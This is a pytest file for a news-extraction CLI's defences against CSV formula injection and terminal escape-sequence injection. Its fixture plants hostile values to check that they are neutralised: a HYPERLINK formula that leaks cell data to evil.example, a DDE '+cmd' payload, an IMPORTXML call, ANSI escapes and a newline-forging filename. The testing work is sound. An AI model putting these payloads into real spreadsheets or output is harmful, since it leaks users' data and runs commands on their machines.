"""What the CLI writes from untrusted text (issue 10): CSV cells that no spreadsheet runs,
terminal output with no escape sequences, one never-wrapped line per bad input."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sitrep.cli import app
from sitrep.console import one_line, safe_console
from sitrep.publish.exports import export_rows
from sitrep.safe_text import CSV_FORMULA_START, csv_cell, for_terminal
from sitrep.store import open_db
from test_store_writes import make_extraction

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPES = "\x1b[2J\x1b[31m\x1b]0;pwned\x1b\\"  # clear screen, red, window title
runner = CliRunner()


@pytest.fixture
def hostile_db(tmp_path) -> Path:
    """Claims, events and an article whose every text field an attacker wrote."""
    db = tmp_path / "h.duckdb"
    sentence = (f"{FORMULA} At least 12 people, including 5 civilians, were killed in Saraqib as rebels "
                "fought regime forces, the Observatory said.")
    with open_db(db) as store:
        for doc, outlet in (("d1", "+cmd|' /C calc'!A0"), ("d2", f"@SUM(1+1){ESCAPES}")):
            x = make_extraction(doc, text=sentence, outlet=outlet)
            x.claims = [dataclasses.replace(c, sentence=sentence, source=f"-2+3{ESCAPES}Observatory")
                        for c in x.claims]
            x.events = [dataclasses.replace(e, sentence="\t" + sentence, source="\r=1+1") for e in x.events]
            x.article.url = f"=IMPORTXML(\"http://evil.example\", \"//a\"){doc}"
            store.write_many([x])
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("args", [
    ["export", "claims", "--format", "csv"],
    ["export", "events", "--format", "csv"],
    ["export", "events", "--format", "acled"],
    ["export", "series", "--format", "csv"],
    ["export", "series", "--format", "csv", "--estimates"],
    ["export", "framing", "--format", "csv"],
    ["export", "contradictions", "--format", "csv"],
])
def test_cli_csv_exports_carry_no_formula(hostile_db: Path, args: list[str]) -> None:
    result = runner.invoke(app, [*args, "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert cells or args[1] == "contradictions"  # none in this database
    assert not [c for c in cells if c.startswith(CSV_FORMULA_START) and not _is_number(c)]
    if args[1] in ("claims", "events"):
        assert any(c.startswith("'" + FORMULA) or c.startswith("'\t" + FORMULA) for c in cells)


@pytest.mark.parametrize("args, raw", [
    (["export", "claims", "--format", "csv", "--raw-csv"], FORMULA),
    (["export", "events", "--format", "acled", "--raw-csv"], "\t" + FORMULA),
])
def test_cli_raw_csv_writes_cells_as_they_are(hostile_db: Path, args: list[str], raw: str) -> None:
    result = runner.invoke(app, [*args, "--db", str(hostile_db)])
    assert result.exit_code == 0
    assert any(c.startswith(raw) for c in _cells(result.stdout))


def test_cli_csv_numbers_are_never_changed() -> None:
    @dataclasses.dataclass
    class Row:
        lon: float
        low: int
        text: str

    out = io.StringIO()
    export_rows([Row(-3.7, -1, "-1 dead")], out, "csv")
    assert out.getvalue().splitlines()[1] == "-3.7,-1,'-1 dead"


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), (" =1", " =1"), ("", ""),
])
def test_cli_csv_cell_neutralises_formula_starts(cell: str, expected: str) -> None:
    assert csv_cell(cell) == expected


@pytest.mark.parametrize("command", [
    ["claims"], ["events"], ["places"], ["series"], ["framing"], ["framing", "--outlets"], ["contradictions"],
    ["claims", "--json"],
])
def test_cli_terminal_output_carries_no_escape_sequence(hostile_db: Path, command: list[str]) -> None:
    result = runner.invoke(app, [*command, "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    # (what is left of a sequence that rich folded over two lines is plain text: "]0;pwned")
    assert not set(result.output) & {"\x1b", "\x07", "\x9b", "\u202e"}


def test_cli_console_keeps_its_own_styles_but_drops_the_texts() -> None:
    from rich.text import Text

    out = io.StringIO()
    console = safe_console(file=out, force_terminal=True, color_system="standard")
    console.print(Text("ok", style="red") + Text(f" evil{ESCAPES}\u202eend"))
    written = out.getvalue()
    assert "\x1b[31m" in written  # rich's own colour for "ok"
    assert "pwned" not in written and "\x1b[2J" not in written and "\u202e" not in written
    assert "evil" in written and "end" in written


def test_cli_one_line_escapes_newlines_and_never_wraps() -> None:
    out = io.StringIO()
    console = safe_console(stderr=True)
    console.file = out
    message = "/data/" + "x" * 300 + "/evil\nskipped fake.txt: forged\x1b[31m.txt: empty"
    one_line(console, "skipped", message)
    lines = out.getvalue().splitlines()
    assert len(lines) == 1 and lines[0].startswith("skipped /data/")
    assert "\\nskipped fake.txt" in lines[0] and "\x1b" not in lines[0]
    assert for_terminal("a\x00b\u2028c") == "a\\x00b\\u2028c"


def test_cli_run_reports_bad_inputs_one_unwrapped_line_each(tmp_path: Path) -> None:
    folder = tmp_path / ("deep-" + "folder-name-" * 12)
    folder.mkdir()
    (folder / "evil\nskipped forged.txt: no such file.txt").write_bytes(b"")
    (folder / ("long-" * 30 + ".txt")).write_bytes(b"\x00\x01\x02\x03" * 50)
    (folder / "deep.jsonl").write_text("[" * 1000 + "]" * 1000 + "\n")
    env = {**os.environ, "COLUMNS": "80"}
    result = subprocess.run([sys.executable, "-m", "sitrep.cli", "run", str(folder), "--db",
                             str(tmp_path / "s.duckdb"), "-q"], capture_output=True, text=True, env=env,
                            timeout=300)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 3, result.stderr
    assert all(line.startswith(f"skipped {folder}") for line in lines)
    assert any("evil\\nskipped forged.txt" in line and line.endswith(": empty") for line in lines)
    assert any(line.endswith("malformed JSONL line 1: nested too deeply") for line in lines)
